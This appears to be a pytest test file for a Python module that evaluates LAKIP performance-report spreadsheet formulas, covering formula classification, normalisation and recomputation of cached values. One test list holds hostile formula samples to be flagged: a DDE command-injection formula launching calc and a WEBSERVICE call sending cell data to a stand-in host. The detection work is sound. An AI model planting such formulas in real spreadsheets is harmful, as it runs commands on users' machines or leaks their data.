"""lakip_xl.excel.rumus: formulas calling lakip_xl functions, evaluated with lakip_xl's own rules.

Expected values come from the rules called directly (lakip_xl.aturan.capaian.capaian, lakip_xl.aturan.predikat)
on the sheet's own target/realisasi, from hand computation (noted next to each number), or from the
seed figures (shared/docs/seed-figures.md), never from this module's output.
"""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest

xlsxwriter = pytest.importorskip("xlsxwriter")
from python_calamine import CalamineWorkbook  # noqa: E402

from lakip_xl.aturan.capaian import capaian  # noqa: E402
from lakip_xl.aturan.nilai import NA, bulatkan  # noqa: E402
from lakip_xl.aturan.predikat import predikat  # noqa: E402
from lakip_xl.errors import InputError  # noqa: E402
from lakip_xl.excel import rumus  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
CONTOH = ROOT / "workbooks" / "contoh_depok_2020.xlsx"
FIDELITY = ROOT / "tests" / "data" / "fidelity" / "fidelity_excelish.xlsm"


# --------------------------------------------------------------------------------------------------
# Which formulas are lakip formulas

# formula text (as stored, without "="), calls a lakip_xl function?
KLASIFIKASI = [
    ("CAPAIAN(D5,E5)", True),
    ("[1]!CAPAIAN(C2,D2)", True),  # add-in form with an externalLink
    ("_xludf.PREDIKAT(G5)", True),  # written by an application that does not know the function
    ("'C:\\Users\\staf\\lakip_udf.xlam'!CAPAIAN(A1,B1)", True),  # broken add-in link
    ("lakip_udf.xlam!SERAPAN(A1,B1)", True),
    ('IFERROR(capaian(A1,B1),"")', True),  # nested, lower case
    ("CAPAIAN_SASARAN(G5:G9)", True),
    ("KUMULATIF(B2:E2, \"kumulatif\")", True),
    ('"CAPAIAN(A1,B1)"', False),  # only inside a string literal
    ('IF(A1="x","PREDIKAT(",1)', False),
    ("MYCAPAIAN(A1)", False),
    ("CAPAIAN_X(A1)", False),
    ("Capaian!A1+1", False),  # a sheet named Capaian
    ("SUM(tblRealisasi[Capaian])", False),
    ("ROUND(SUMIFS(tblRealisasi[Jumlah],tblRealisasi[Kode Indikator],A8),2)", False),
]


@pytest.mark.parametrize("teks, lakip", KLASIFIKASI)
def test_panggil_lakip(teks, lakip):
    assert rumus.panggil_lakip(teks) is lakip


# formula text, normalised text handed to the evaluator
NORMAL = [
    ("[1]!CAPAIAN(C2,D2)", "CAPAIAN(C2,D2)"),
    ("_xludf.PREDIKAT(G5)", "PREDIKAT(G5)"),
    ("'C:\\x\\lakip.xlam'!capaian(A1,B1)", "CAPAIAN(A1,B1)"),
    ('IF(A1="[1]!CAPAIAN(",[1]!CAPAIAN(A1,B1),0)', 'IF(A1="[1]!CAPAIAN(",CAPAIAN(A1,B1),0)'),
    ("SUM(A1:A3)", "SUM(A1:A3)"),
]


@pytest.mark.parametrize("teks, normal", NORMAL)
def test_normalkan(teks, normal):
    assert rumus.normalkan(teks) == normal


# formula text, refers to an external workbook?
EKSTERNAL = [("[1]Sheet1!A1*2", True), ("[2]!Nama", True), ('"[1]"&A1', False), ("tblX[Kolom]", False),
             ("'C:\\Users\\budi\\[lain.xlsx]Data'!$B$2", True), ("[lain.xlsx]Data!A1", True),
             ("'\\\\server\\share\\[a.xlsm]S'!A1+1", True), ("'Data Saya'!A1", False),
             ("tblRealisasi[[#This Row],[Jumlah]]", False), ('"C:\\[x.xlsx]"&A1', False)]


@pytest.mark.parametrize("teks, eksternal", EKSTERNAL)
def test_rujuk_eksternal(teks, eksternal):
    assert rumus.rujuk_eksternal(teks) is eksternal


# formula text, a word of the reason it reaches outside the workbook (None: it does not)
LUAR = [("cmd|' /C calc'!A0", "DDE"), ('WEBSERVICE("http://x.invalid/"&A1)', "WEBSERVICE"),
        ('_xlfn.WEBSERVICE(A1)', "WEBSERVICE"), ('IFERROR(RTD("srv",,"x"),0)', "RTD"),
        ('HYPERLINK("file:///C:/Users/budi/a.xlsx","buka")', "berkas"), ('HYPERLINK("\\\\srv\\a.xlsx")', "berkas"),
        ('HYPERLINK("https://sakip.go.id","buka")', None), ('"a|b"&A1', None), ("SUM(A1:A3)", None),
        ('"WEBSERVICE("&A1', None)]


@pytest.mark.parametrize("teks, kata", LUAR)
def test_menjangkau_luar(teks, kata):
    sebab = rumus.menjangkau_luar(teks)
    assert (sebab is None) if kata is None else (kata in sebab)


# --------------------------------------------------------------------------------------------------
# The sample workbook: every UDF formula equals the rules applied to the Realisasi sheet


def _angka(v):
    return None if v in ("", None) else v


def nilai_aturan_contoh(path: Path) -> dict[tuple[str, str], object]:
    """The rules' values of Realisasi!G (CAPAIAN(Dn,En)) and H (PREDIKAT(Gn)), computed directly.

    Rows whose realisasi is a count (a native formula in E) get E as that formula defines it:
    ROUND(sum of Jumlah of the same indicator up to that year, yearly rows only / Penyebut x 100, 2)
    (the cumulative rule of shared/docs/domain.md; seed: IK2 2020 = (100 + 114) / 250 = 85.6%)."""
    wb = CalamineWorkbook.from_path(str(path))
    real = wb.get_sheet_by_name("Realisasi").to_python(skip_empty_area=False)
    ind = wb.get_sheet_by_name("Indikator").to_python(skip_empty_area=False)
    penyebut = {r[2]: r[8] for r in ind[4:] if r[2]}
    out: dict[tuple[str, str], object] = {}
    for i, r in enumerate(real[4:], start=5):
        kode, tahun, triwulan, target, realisasi, jumlah = r[:6]
        if not kode:
            continue
        if _angka(jumlah) is not None and _angka(penyebut.get(kode)) is not None:
            total = sum(Decimal(str(x[5])) for x in real[4:]
                        if x[0] == kode and x[1] <= tahun and x[2] in ("", None) and _angka(x[5]) is not None)
            realisasi = float(bulatkan(total / Decimal(str(penyebut[kode])) * 100, 2))
        c = capaian(_angka(target), _angka(realisasi))
        out[("Realisasi", f"G{i}")] = "n/a" if isinstance(c, NA) else float(c)
        out[("Realisasi", f"H{i}")] = predikat(c).label
    return out


@pytest.fixture(scope="module")
def contoh() -> dict:
    return rumus.hitung_rumus_lakip(CONTOH)


def test_contoh_setiap_rumus_udf_sama_dengan_aturan(contoh):
    harapan = nilai_aturan_contoh(CONTOH)
    assert len(harapan) == 46  # 23 data rows x (Capaian, Predikat)
    assert contoh == harapan


def test_contoh_sama_dengan_nilai_tersimpan_pembuat(contoh):
    rows = CalamineWorkbook.from_path(str(CONTOH)).get_sheet_by_name("Realisasi").to_python(skip_empty_area=False)
    tersimpan = {("Realisasi", f"{kol}{i}"): rows[i - 1][idx]
                 for i in range(5, 28) for kol, idx in (("G", 6), ("H", 7))}
    assert contoh == tersimpan


def test_contoh_angka_seed(contoh):
    # shared/docs/seed-figures.md: IK3 2020 capaian 44.83 (row 12), IK2 2020 214 (row 9, E from counts)
    assert contoh[("Realisasi", "G12")] == 44.83
    assert contoh[("Realisasi", "G9")] == 214.0
    assert contoh[("Realisasi", "H12")] == "Tidak Tercapai"


def test_add_in_dan_tersimpan_sama():
    nilai = rumus.hitung_rumus_lakip(FIDELITY)
    # Data!C2 = 100 (target), D2 = 80 (realisasi): 80 / 100 x 100 = 80 (hand computed)
    assert nilai[("Data", "F2")] == 80.0
    assert nilai[("Data", "M2")] == 80.0  # the add-in form [1]!CAPAIAN(C2,D2)
    # Data!C3 = 105, D3 = 87: 87 / 105 x 100 = 82.857.. -> 82.86
    assert nilai[("Data", "F3")] == 82.86
    assert len(nilai) == 21


# --------------------------------------------------------------------------------------------------
# Cached values are never trusted


@pytest.fixture(scope="module")
def salah(tmp_path_factory) -> Path:
    """Lakip formulas whose cached values are deliberately wrong or missing."""
    path = tmp_path_factory.mktemp("rumus") / "salah.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Data Saya")  # a sheet name with a space
    ws.write_row("A1", ["Target", "Realisasi", "Capaian", "Predikat", "Ket"])
    ws.write_row("A2", [80, 100])
    ws.write_formula("C2", "=CAPAIAN(A2,B2)", None, 999)  # wrong cached value
    ws.write_formula("D2", "=PREDIKAT(C2)", None, "salah")
    ws.write_formula("E2", "=KETERANGAN(C2)", None, "")
    ws.write_string("A3", "0,14%")
    ws.write_string("B3", "0,1")
    ws.write_formula("C3", "=_xludf.CAPAIAN(A3,B3)", None, "")  # missing value
    ws.write_formula("C5", "=CAPAIAN(A5,B5)", None, 0)  # both inputs blank
    ws.write_array_formula("F2:F3", "{=CAPAIAN(A2:A3,B2:B3)}", None, 0)
    ws.write_formula("G2", "=B2*1.1", None, 0)  # a native formula with a wrong cached value
    ws.write_formula("H2", "=CAPAIAN(A2,G2)", None, 0)
    ws.write_formula("I2", "=ZZTIDAKADA(A2)", None, 88)  # a function no evaluator knows, cached 88
    ws.write_formula("J2", "=CAPAIAN(A2,I2)", None, 0)
    wb.close()
    return path


@pytest.fixture(scope="module")
def hasil_salah(salah):
    return rumus.evaluasi_rumus(salah)


def test_nilai_tersimpan_salah_diabaikan(hasil_salah):
    n = hasil_salah.nilai
    # 100 / 80 x 100 = 125 (hand); sakip3: > 100 is "Melebihi Target" (domain.md)
    assert n[("Data Saya", "C2")] == 125.0
    assert n[("Data Saya", "D2")] == "Melebihi Target"
    assert n[("Data Saya", "E2")] == "Telah melampaui target"
    # 0,1 / 0,14 x 100 = 71.428.. -> 71.43 (hand; seed IK5 2020)
    assert n[("Data Saya", "C3")] == 71.43
    assert n[("Data Saya", "C5")] is None  # a blank row stays blank (udf convention), not 0
    assert n[("Data Saya", "F2")] == 125.0 and n[("Data Saya", "F3")] == 71.43  # array formula
    # G2 = 100 x 1.1 = 110 recomputed (cached 0 ignored): 110 / 80 x 100 = 137.5
    assert n[("Data Saya", "H2")] == 137.5


def test_rumus_asli_tak_dikenal_memakai_nilai_tersimpan_dengan_peringatan(hasil_salah):
    # I2 cannot be recomputed: its cached 88 is used, and said so. 88 / 80 x 100 = 110
    assert hasil_salah.nilai[("Data Saya", "J2")] == 110.0
    (p,) = hasil_salah.peringatan
    assert p.sheet == "Data Saya" and p.sel == "I2"
    assert "ZZTIDAKADA" in p.pesan and "88" in p.pesan
    assert hasil_salah.galat == []


def test_tanpa_nilai_tersimpan_dilaporkan_bukan_ditebak(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "tanpa_cache.xlsx"
    wb = openpyxl.Workbook()  # a test workbook built from scratch (no user file is round-tripped)
    ws = wb.active
    ws.title = "Realisasi"
    ws["A2"], ws["B2"] = 80, "=ZZTIDAKADA(A2)"  # openpyxl writes no cached values at all
    ws["C2"] = "=CAPAIAN(A2,B2)"
    ws["A3"], ws["B3"] = 80, "=A3*1.5"
    ws["C3"] = "=CAPAIAN(A3,B3)"
    wb.save(path)
    hasil = rumus.evaluasi_rumus(path)
    assert hasil.nilai[("Realisasi", "C3")] == 150.0  # B3 computed: 120 / 80 x 100
    (galat,) = hasil.galat
    assert (galat.sheet, galat.sel) == ("Realisasi", "C2")
    assert "tidak dapat dihitung" in galat.pesan
    with pytest.raises(InputError, match="tidak dapat dihitung") as info:
        rumus.hitung_rumus_lakip(path)
    assert "sel C2" in str(info.value) and "Realisasi" in str(info.value)


def test_pesan_galat_udf_jadi_peringatan(tmp_path):
    path = tmp_path / "teks.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Realisasi")
    ws.write_string("A2", "sepuluh")  # not a number: CAPAIAN answers "#N/A: ..." in that cell
    ws.write_number("B2", 5)
    ws.write_formula("C2", "=CAPAIAN(A2,B2)")
    wb.close()
    hasil = rumus.evaluasi_rumus(path)
    assert str(hasil.nilai[("Realisasi", "C2")]).startswith("#N/A: ")
    assert [(m.sheet, m.sel) for m in hasil.peringatan] == [("Realisasi", "C2")]
